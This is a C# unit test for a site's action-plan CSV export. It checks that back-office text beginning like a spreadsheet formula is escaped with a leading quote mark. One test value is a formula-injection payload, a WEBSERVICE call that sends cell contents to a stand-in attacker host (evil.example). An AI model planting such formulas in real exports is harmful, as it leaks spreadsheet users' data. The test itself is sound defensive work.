using System.Net;
using Microsoft.EntityFrameworkCore;
using PledgeSite.Core.Entities;
using PledgeSite.Tests.Infrastructure;

namespace PledgeSite.Tests.Pages.ActionPlan;

/// <summary>Pages/ActionPlan/Download.cshtml (/action-plan/download.csv): text edited in the back office cannot become a spreadsheet formula.</summary>
public sealed class DownloadTests : IDisposable
{
    private readonly SiteFactory _site = new();

    [Fact]
    public async Task Cells_that_start_like_a_formula_are_escaped_with_a_leading_quote_mark()
    {
        var reference = await _site.WithDbAsync(async db =>
        {
            var action = await db.Set<PlanAction>().Include(a => a.Recommendation).Include(a => a.Owners).OrderBy(a => a.Id).FirstAsync();
            action.Text = "=WEBSERVICE(\"https://evil.example/?\"&A1)";
            // Owners come from the one list of owners: an owner named like a formula, this action's only owner.
            action.Owners.Clear();
            action.Owners.Add(new ActionOwner { Name = "@Owner", Slug = "at-owner" });
            action.Owner = "@Owner";
            action.ProgressUpdate = "-1+1";
            action.Resource = "+Budget";
            await db.SaveChangesAsync();
            return action.Reference;
        });
        using var visitor = HtmlClient.For(_site);

        var response = await visitor.Http.GetAsync("/action-plan/download.csv", TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = CsvCells.Parse(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        var header = rows[0].ToList();
        var row = Assert.Single(rows, r => r[0] == reference);
        Assert.Equal("'=WEBSERVICE(\"https://evil.example/?\"&A1)", row[header.IndexOf("action")]);
        Assert.Equal("'@Owner", row[header.IndexOf("owner")]);
        Assert.Equal("'-1+1", row[header.IndexOf("progress_update")]);
        Assert.Equal("'+Budget", row[header.IndexOf("resource")]);
        CsvCells.AssertNoFormula(rows);
    }

    public void Dispose() => _site.Dispose();
}
